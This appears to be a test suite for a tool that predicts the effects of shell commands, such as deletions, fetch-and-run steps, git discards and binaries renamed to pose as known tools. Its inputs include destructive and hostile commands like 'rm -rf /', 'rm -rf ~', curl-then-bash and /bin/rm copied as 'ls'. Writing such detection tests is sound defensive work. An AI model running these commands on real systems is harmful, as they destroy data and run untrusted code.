import { describe, expect, it } from 'vitest';
import { analyseIn, effectsOf } from './effects-of';

const files = {
  'clean.sh': '#!/bin/bash\nset -e\nrm -rf "$1"\n',
  'env.sh': 'export D=/\n',
  'early.sh': 'D=/\ntest -d x && return\nD=build\n',
  'tool.py': '#!/usr/bin/env python3\nimport shutil\nshutil.rmtree("/srv/data")\n',
  'a.sh': './b.sh\n',
  'b.sh': './a.sh\n',
  'package.json': JSON.stringify({
    scripts: {
      clean: 'rm -rf dist',
      preclean: 'rm a',
      postclean: 'rm z',
      all: 'npm run clean -- x',
      loop: 'npm run loop',
    },
  }),
};

describe('scripts', () => {
  const cases: Readonly<Record<string, string[]>> = {
    './clean.sh /': [
      'code.exec ./clean.sh origin=workspace-file ‹./clean.sh›',
      'fs.delete / root=filesystem ‹./clean.sh›',
    ],
    'bash clean.sh build': [
      'code.exec ./clean.sh origin=workspace-file ‹bash clean.sh›',
      'fs.delete ./build ‹bash clean.sh›',
    ],
    '. ./env.sh && rm -rf $D': ['code.exec ./env.sh origin=workspace-file ‹.›', 'fs.delete / root=filesystem'],
    '. ./early.sh; rm -rf $D': ['code.exec ./early.sh origin=workspace-file ‹.›', 'fs.delete ? root=? class=?'],
    'python3 tool.py': [
      'fs.delete /srv/data ‹python3 tool.py›',
      'code.exec ./tool.py origin=workspace-file ‹python3 tool.py›',
    ],
    './tool.py': ['fs.delete /srv/data ‹./tool.py›', 'code.exec ./tool.py origin=workspace-file ‹./tool.py›'],
    'cat clean.sh | bash': [
      'fs.read ./clean.sh',
      'code.exec ./clean.sh origin=workspace-file ‹bash›',
      'fs.delete ? root=? class=? ‹bash › clean.sh›',
    ],
    'cat env.sh clean.sh | bash': [
      'fs.read ./env.sh',
      'fs.read ./clean.sh',
      'code.exec origin=stdin resolved=false ‹bash›',
      'code.opaque bash reason=dynamic-eval ‹bash›',
    ],
    'bash < clean.sh': [
      'fs.read ./clean.sh',
      'code.exec ./clean.sh origin=workspace-file ‹bash›',
      'fs.delete ? root=? class=? ‹bash › clean.sh›',
    ],
    'npm run clean': [
      'code.exec origin=project-config ‹npm run clean›',
      'fs.delete ./a ‹npm run clean › npm run preclean›',
      'fs.delete ./dist ‹npm run clean›',
      'fs.delete ./z ‹npm run clean › npm run postclean›',
    ],
  };
  it.each(Object.entries(cases))('%s', (command, lines) => expect(effectsOf(command, { files })).toEqual(lines));

  const standing: Readonly<Record<string, string>> = {
    'cd "$(dirname "$0")/.."': './.cache',
    'cd "$(dirname "${BASH_SOURCE[0]}")" && cd ..': './.cache',
    'cd -- "$(cd "$(dirname "$0")" && pwd)/.."': './.cache',
    'HERE=$(dirname "$(readlink -f "$0")"); cd "$HERE"': './scripts/.cache',
    'cd "$(dirname "$(realpath "$0")")/.."': './.cache',
    'cd "$(dirname "$0")/../../.."': '/home/.cache',
    'cd "$(basename "$0" .sh)"': '…/.cache',
  };
  it.each(Object.entries(standing))('a script that begins with %s', (line, expected) => {
    const lines = effectsOf('sh scripts/tidy.sh', { files: { 'scripts/tidy.sh': `${line}\nrm -rf .cache\n` } });
    expect(lines.find((text) => text.startsWith('fs.delete'))).toContain(`fs.delete ${expected}`);
  });

  it('that is being read knows its name', () => {
    const script = '/home/dana/shop/scripts/tidy.sh';
    const action = { type: 'shell', command: 'cd "$(dirname "$0")/.."\nrm -rf .cache\n', script } as const;
    expect(analyseIn({}, action).effects.map(({ kind, ...rest }) => [kind, 'path' in rest && rest.path])).toEqual([
      ['fs.delete', '/home/dana/shop/.cache'],
    ]);
  });

  it('knows what bash -c calls itself', () => {
    expect(effectsOf(`bash -c 'rm -rf "$(dirname "$0")"' /srv/data/x`)).toContain('fs.delete /srv/data ‹bash -c›');
  });

  it('ends when scripts call each other', () => {
    const lines = effectsOf('./a.sh', { files });
    expect(lines.some((line) => line.startsWith('code.opaque reason=depth-limit'))).toBe(true);
    expect(effectsOf('npm run loop', { files }).some((line) => line.includes('depth-limit'))).toBe(true);
  });

  it('records what was read, and points into it', () => {
    const { effects, files: read } = analyseIn({ files }, { type: 'shell', command: 'bash clean.sh /' });
    expect(read.map((file) => file.path)).toEqual(['/home/dana/shop/clean.sh']);
    expect(read[0]?.digest).toMatch(/^sha256:[\da-f]{64}$/);
    const { at } = effects.find((effect) => effect.kind === 'fs.delete')!;
    expect(at.span).toEqual({ start: 0, end: 15 });
    expect(files['clean.sh'].slice(at.file?.span.start, at.file?.span.end)).toBe('"$1"');
  });

  it('points at the script inside package.json', () => {
    const { effects } = analyseIn({ files }, { type: 'shell', command: 'npm run clean' });
    const { at } = effects.find((effect) => effect.kind === 'fs.delete' && String(effect.path).endsWith('dist'))!;
    expect(files['package.json'].slice(at.file?.span.start, at.file?.span.end)).toBe('dist');
  });
});

describe('long scripts', () => {
  const kinds = [
    'echo "step N" >> build.log',
    'cp src/fN.ts out/fN.ts',
    'mkdir -p out/dN',
    'git add fN.txt',
    'if [ -f aN ]; then cat aN | grep x > bN; fi',
    'X_N=$(date +%s)',
  ];
  const script = (lines: number) =>
    Array.from({ length: lines }, (_, line) => kinds[line % kinds.length]!.replaceAll('N', String(line))).join('\n');
  const opaque = (text: string) =>
    effectsOf('bash long.sh', { files: { 'long.sh': text } }).filter((line) => line.startsWith('code.opaque'));

  it('are read to the end', () => {
    const text = `${script(1000)}\nrm -rf /\n`;
    const lines = effectsOf('bash long.sh', { files: { 'long.sh': text } });
    expect(lines.at(-1)).toBe('fs.delete / root=filesystem ‹bash long.sh›');
    expect(opaque(text)).toEqual([]);
  });

  it('are opaque where they are longer than can be read in time', () => {
    expect(opaque(script(3000))).toHaveLength(1);
    expect(opaque('ls; '.repeat(10_000))).toHaveLength(1);
  });
});

describe('files written before they are run', () => {
  const cases: Readonly<Record<string, string[]>> = {
    'git clone https://x.test/a && a/install.sh': [
      'net.fetch x.test',
      'fs.write ./a mode=create',
      'code.exec ./a/install.sh origin=foreign-file resolved=false ‹a/install.sh›',
    ],
    "echo 'rm -rf /' > x.sh; sh x.sh": ['fs.write ./x.sh mode=create', 'fs.delete / root=filesystem ‹sh x.sh›'],
    'cat > x.sh <<E\nrm -rf /\nE\nchmod +x x.sh && ./x.sh': [
      'fs.write ./x.sh mode=create',
      'fs.perms ./x.sh',
      'fs.delete / root=filesystem ‹./x.sh›',
    ],
    'curl -o x.sh https://x.test && bash x.sh': [
      'net.fetch x.test',
      'fs.write ./x.sh',
      'code.exec origin=network resolved=false ‹bash x.sh›',
    ],
    'sed -i s/a/$B/ clean.sh && bash clean.sh': [
      'fs.read ./clean.sh',
      'fs.write ./clean.sh',
      'code.exec origin=inline resolved=false ‹sed›',
      'code.exec ./clean.sh origin=workspace-file resolved=false ‹bash clean.sh›',
      'code.opaque ./clean.sh reason=dynamic-eval ‹bash clean.sh›',
    ],
  };
  it.each(Object.entries(cases))('%s', (command, lines) => expect(effectsOf(command, { files })).toEqual(lines));
});

describe('what a submission made, it may delete', () => {
  const undo = (command: string) =>
    analyseIn({ files }, { type: 'shell', command }).effects.flatMap((effect) =>
      effect.kind === 'fs.delete' ? [effect.undo] : [],
    );
  it.each(['cp clean.sh b; rm b', 'echo x > b && rm b', 'cp -r src copy; ls copy; rm -rf copy'])('%s', (command) =>
    expect(undo(command)).toEqual(['trivial']),
  );

  it.each([
    'rm b',
    'echo x > clean.sh; rm clean.sh',
    'echo x >> clean.sh; rm clean.sh',
    'mkdir new; ./unseen; rm -rf new',
  ])('not so after %s', (command) => expect(undo(command)).toEqual([null]));

  it('nor where something was moved to', () => {
    expect(undo('mkdir new; mv clean.sh new/; rm -rf new').at(-1)).toBe(null);
    expect(undo('mv clean.sh b; rm b').at(-1)).toBe(null);
  });
});

describe('where git works', () => {
  const directory = (command: string) =>
    analyseIn({}, { type: 'shell', command }).effects.flatMap(({ kind, at }) =>
      kind === 'vcs.discard' ? [at.directory] : [],
    );
  it.each([
    ['git checkout .', '/home/dana/shop'],
    ['cd sub && git checkout .', '/home/dana/shop/sub'],
    ['git -C ../other checkout .', '/home/dana/other'],
    ['git -C "$unset" checkout .', null],
    ['git --git-dir=x.git checkout .', null],
    ['GIT_DIR=x.git git checkout .', null],
    ["ssh host 'cd /srv && git checkout .'", null],
  ])('%s', (command, expected) => expect(directory(command)).toEqual([expected]));

  it('two directories are two effects', () => {
    expect(directory('git checkout . && git -C ../other checkout .')).toHaveLength(2);
  });
});

describe('a program at a path, by the name of one that is known', () => {
  it.each([
    ['cp /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
    ['ln -s /bin/rm ls; ./ls -rf ~', 'code.exec /bin/rm origin=foreign-file'],
    ['cp /bin/rm node_modules/.bin/tsc; ./node_modules/.bin/tsc -rf ~', 'code.exec /bin/rm origin=foreign-file'],
    ['cat /bin/rm > ls; chmod +x ls; ./ls -rf ~', 'code.exec'],
    ['curl -o ls https://x.example/ls; chmod +x ls; ./ls', 'code.exec origin=network'],
    ["echo 'rm -rf ~' > gradlew; ./gradlew build", 'fs.delete /home/dana root=home'],
    ['git clone https://x.example/r.git && cd r && ./gradlew build', 'code.exec ./r/gradlew origin=foreign-file'],
  ])('is what the submission put there: %s', (command, expected) => {
    expect(effectsOf(command).some((line) => line.startsWith(expected))).toBe(true);
  });

  it.each([
    ['./gradlew build', 'code.exec'],
    ['chmod +x gradlew && ./gradlew build', 'code.exec'],
    ['npm ci && ./node_modules/.bin/rimraf build', 'fs.delete ./build'],
    ['python3 -m venv .venv && .venv/bin/pip install flask', 'package.install'],
  ])('is taken at its word otherwise: %s', (command, expected) => {
    const lines = effectsOf(command);
    expect(lines.some((line) => line.startsWith(expected))).toBe(true);
    expect(lines.join()).not.toContain('foreign-file');
  });
});
